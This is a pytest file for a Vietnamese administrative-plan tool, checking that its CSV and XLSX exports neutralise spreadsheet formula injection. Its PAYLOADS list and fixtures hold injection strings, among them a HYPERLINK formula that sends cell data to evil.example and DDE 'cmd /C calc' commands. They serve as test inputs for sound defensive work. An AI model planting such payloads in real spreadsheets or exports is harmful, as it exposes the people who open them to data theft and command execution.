"""CSV/formula injection: text that starts like a formula stays text in every csv and xlsx export.

Each xlsx is opened as the zip it is: no sheet holds a formula (``<f>``) and the text reads back unchanged;
each csv cell starting with = + - @ TAB CR carries the OWASP ``'`` prefix. Plain numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from parlens.model import CriterionLink, Deadline, Document, DocumentMetadata, Task
from parlens.reports import formats, responsibility
from parlens.search_api.cli import app

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2&C2,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAN = (
    "KẾ HOẠCH\nCải cách hành chính năm 2026\n"
    'Giao Sở Y tế: =HYPERLINK("http://evil.example/?"&B2&C2,"Bấm vào đây") rà soát hồ sơ cấp phép, hoàn thành trước ngày 30/6/2026.\n'
    "Giao Sở Tư pháp: @SUM(A1:A9) rà soát văn bản quy phạm pháp luật, hoàn thành trước ngày 30/6/2026.\n"
)


def sheet_xml(data: bytes) -> str:
    """Every worksheet of an xlsx, as XML text."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def assert_no_formula(data: bytes) -> None:
    xml = sheet_xml(data)
    assert not re.search(r"<f[ >/]", xml), "a cell of the sheet is a formula"


def xlsx_values(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8").lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def tasks() -> list[Task]:
    out = []
    for n, payload in enumerate(PAYLOADS):
        out.append(Task(payload, "lead", payload, n * 10, n * 10 + 5, deadline=Deadline(payload)))
    out.append(Task("Sở Nội vụ", "lead", "Tổ chức chấm điểm chỉ số CCHC", 100, 120))
    return out


def test_formula_like_and_csv_cell():
    assert all(formats.formula_like(p) for p in PAYLOADS)
    assert not any(formats.formula_like(v) for v in ("-5", "+3", "-1,5", "2.5", "Sở Nội vụ", "a=b", "", -5, 3.5, None))
    assert formats.csv_cell("=1+1") == "'=1+1"
    assert formats.csv_cell("-5") == "-5" and formats.csv_cell(-5) == -5


def test_task_xlsx_has_no_formula_and_keeps_the_text(tasks):
    data = formats.render(None, tasks, "xlsx")
    assert_no_formula(data)
    values = xlsx_values(data)
    for payload in PAYLOADS:
        assert payload.replace("\r", "\n") in values or payload in values
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["F2"].value == PAYLOADS[0] and ws["F2"].data_type == "s" and ws["F2"].quotePrefix
    assert ws["C8"].value == "Sở Nội vụ" and not ws["C8"].quotePrefix


def test_task_csv_prefixes_formula_cells(tasks):
    cells = csv_cells(formats.render(None, tasks, "csv"))
    for payload in PAYLOADS:
        assert "'" + payload in cells
        assert payload not in cells
    assert not any(c.startswith(formats.FORMULA_TRIGGERS) and not formats._PLAIN_NUMBER.fullmatch(c) for c in cells)
    assert "Sở Nội vụ" in cells and "7" in cells  # ordinary text and the row number are untouched


def test_numbers_stay_numbers_in_xlsx():
    wb = Workbook()
    wb.active.append([-5, 3.5, "-5", "=1+1", "-1+2"])
    data = formats.save_xlsx(wb)
    assert_no_formula(data)
    assert xlsx_values(data) == [-5, 3.5, "-5", "=1+1", "-1+2"]
    assert re.search(r'<c r="A1"[^>]*t="n"|<c r="A1"(?![^>]*t=)', sheet_xml(data))


def _who_result() -> dict:
    payload = PAYLOADS[0]
    return {
        "criteria": [{"code": "PAR.7", "name": "Chuyển đổi số"}],
        "agencies": [{"agency": payload, "agency_id": "x", "lead": 1, "support": -2, "tasks": 1, "nearest_deadline": None}],
        "tasks": [{"code": "PAR.7", "agency": "@evil", "role": "lead", "task": payload, "deadline": "-1+2", "due": None,
                   "document": "+doc", "issued_on": None, "document_id": 1, "score": -0.5}],
    }


def test_who_renderings_are_neutralised():
    result = _who_result()
    data = responsibility.render(result, "xlsx")
    assert_no_formula(data)
    values = xlsx_values(data)
    assert PAYLOADS[0] in values and "@evil" in values and "-1+2" in values and "+doc" in values
    assert -2 in values and -0.5 in values  # numbers stay numbers
    cells = csv_cells(responsibility.render(result, "csv"))
    assert "'" + PAYLOADS[0] in cells and "'@evil" in cells and "'-1+2" in cells and "'+doc" in cells
    assert "-2" in cells and "-0.5" in cells


# -- through the CLI -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_tasks_export_is_neutralised(tmp_path, fmt):
    path = tmp_path / "kh.txt"
    path.write_text(PLAN, "utf-8")
    out = tmp_path / f"giao-viec.{fmt}"
    result = CliRunner().invoke(app, ["tasks", str(path), "--format", fmt, "--output", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    if fmt == "xlsx":
        assert_no_formula(data)
        tasks = [v for v in xlsx_values(data) if isinstance(v, str) and v.startswith(("=", "@"))]
    else:
        cells = csv_cells(data)
        assert not any(c.startswith(("=", "@")) for c in cells)
        tasks = [c[1:] for c in cells if c.startswith("'")]
    assert any(t.startswith("=HYPERLINK(") for t in tasks), tasks
    assert any(t.startswith("@SUM(A1:A9)") for t in tasks), tasks


@pytest.fixture
def injected_store(store):
    doc = Document(text="Kế hoạch\nNội dung.", blocks=[],
                   metadata=DocumentMetadata(title="=cmd|' /C calc'!A0", number="5/KH-UBND", doc_type="Kế hoạch",
                                             issued_on=date(2026, 1, 5)))
    task = Task(agency="=HYPERLINK(\"http://evil.example\")", role="lead", task=PAYLOADS[0], start=0, end=10,
                agency_id="so-noi-vu", agency_name="Sở Nội vụ",
                deadline=Deadline(text="+trước ngày 30/6/2026", due=date(2026, 6, 30)),
                criteria=[CriterionLink("PAR.7.2", "PAR.7.2", 0.8, "test")])
    doc_id, _ = store.add_document(doc, b"injected plan", [task], [CriterionLink("PAR.7", "PAR.7", 0.9, "test")])
    return doc_id


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("command", ["who", "coverage"])
def test_cli_who_and_coverage_exports_are_neutralised(injected_store, tmp_path, fmt, command):
    out = tmp_path / f"out.{fmt}"
    target = "PAR.7" if command == "who" else str(injected_store)
    result = CliRunner().invoke(app, [command, target, "-f", fmt, "-o", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    if fmt == "xlsx":
        assert_no_formula(data)
        if command == "who":
            assert PAYLOADS[0] in xlsx_values(data)
    else:
        cells = csv_cells(data)
        assert not any(formats.formula_like(c) for c in cells), [c for c in cells if formats.formula_like(c)]
        if command == "who":
            assert "'" + PAYLOADS[0] in cells
